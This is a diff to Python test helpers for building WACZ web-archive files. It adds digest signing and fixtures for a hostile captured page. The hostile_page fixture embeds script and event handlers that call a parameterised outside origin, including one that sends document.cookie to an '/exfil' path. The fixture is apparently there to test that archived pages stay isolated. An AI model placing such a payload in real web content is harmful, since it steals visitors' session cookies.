@@ -85,13 +85,15 @@ def datapackage(members: dict[str, bytes], edit=None) -> bytes:
     return json.dumps(document, indent=2).encode()
 
 
-def digest_of(datapackage_json: bytes) -> bytes:
-    return json.dumps(
-        {
-            "path": "datapackage.json",
-            "hash": "sha256:" + hashlib.sha256(datapackage_json).hexdigest(),
-        }
-    ).encode()
+def digest_of(datapackage_json: bytes, sign=None) -> bytes:
+    """datapackage-digest.json; `sign(hash)` may return its signedData (WACZ signing)."""
+    document = {
+        "path": "datapackage.json",
+        "hash": "sha256:" + hashlib.sha256(datapackage_json).hexdigest(),
+    }
+    if sign is not None:
+        document["signedData"] = sign(document["hash"])
+    return json.dumps(document).encode()
 
 
 def wacz_bytes(
@@ -101,13 +103,18 @@ def wacz_bytes(
     drop: tuple[str, ...] = (),
     compression: int = zipfile.ZIP_STORED,
     edit=None,
+    sign=None,
 ) -> bytes:
     """A WACZ: `declared` (default: `members`) is what datapackage.json describes; `extra`
     members are added after it is made; `drop` names files left out of the zip; `edit` may
     change the datapackage document before it is written (its digest follows it)."""
     members = dict(members if members is not None else wacz_members())
     package = datapackage(declared if declared is not None else members, edit)
-    files = {**members, "datapackage.json": package, "datapackage-digest.json": digest_of(package)}
+    files = {
+        **members,
+        "datapackage.json": package,
+        "datapackage-digest.json": digest_of(package, sign),
+    }
     files.update(extra or {})
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", compression) as archive:
@@ -115,3 +122,61 @@ def wacz_bytes(
             if path not in drop:
                 archive.writestr(path, data)
     return out.getvalue()
+
+
+def hostile_page(other_origin: str) -> bytes:
+    """A page whose author tries every way to run code or call out to `other_origin`."""
+    return (
+        "<!DOCTYPE html><html><head><title>Checkpoint &amp; road</title>"
+        f"<link rel=stylesheet href='{other_origin}/style.css'>"
+        f"<style>body {{ background: url('{other_origin}/bg.png') }}</style>"
+        f"<script src='{other_origin}/lib.js'></script></head>"
+        f"<body onload=\"fetch('{other_origin}/onload')\">"
+        f"<script>fetch('{other_origin}/exfil?c='+document.cookie);"
+        "document.title='PWNED';</script>"
+        "<h1>Checkpoint closed</h1><p>Soldiers stopped the <b>convoy</b> at dawn.</p>"
+        f"<img src='{other_origin}/pixel.png' onerror=\"fetch('{other_origin}/onerror')\">"
+        f"<a href='{other_origin}/more'>more</a>"
+        f"<iframe src='{other_origin}/frame'></iframe>"
+        f"<form action='{other_origin}/post'><input name=q></form>"
+        f"<svg><image href='{other_origin}/svg.png'/></svg>"
+        "</body></html>"
+    ).encode()
+
+
+def png_bytes(width: int = 40, height: int = 30) -> bytes:
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.new("RGB", (width, height), (200, 30, 30)).save(out, "PNG")
+    return out.getvalue()
+
+
+def hostile_capture(other_origin: str, url: str = "http://news.example/checkpoint") -> bytes:
+    """A WACZ of one hostile page with a screenshot record (urn:view:, as Browsertrix makes)."""
+    out = io.BytesIO()
+    writer = WARCWriter(out, gzip=True)
+    writer.write_record(writer.create_warcinfo_record("capture.warc", {"software": "tests"}))
+    headers = StatusAndHeaders(
+        "200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1"
+    )
+    writer.write_record(
+        writer.create_warc_record(
+            url, "response", payload=io.BytesIO(hostile_page(other_origin)), http_headers=headers
+        )
+    )
+    writer.write_record(
+        writer.create_warc_record(
+            "urn:view:" + url,
+            "resource",
+            payload=io.BytesIO(png_bytes()),
+            warc_content_type="image/png",
+        )
+    )
+    pages = [(url, "2026-03-01T08:00:00Z", "Checkpoint")]
+    members = {
+        "archive/data.warc.gz": out.getvalue(),
+        "indexes/index.cdxj": cdxj(pages),
+        "pages/pages.jsonl": pages_jsonl(pages),
+    }
+    return wacz_bytes(members)
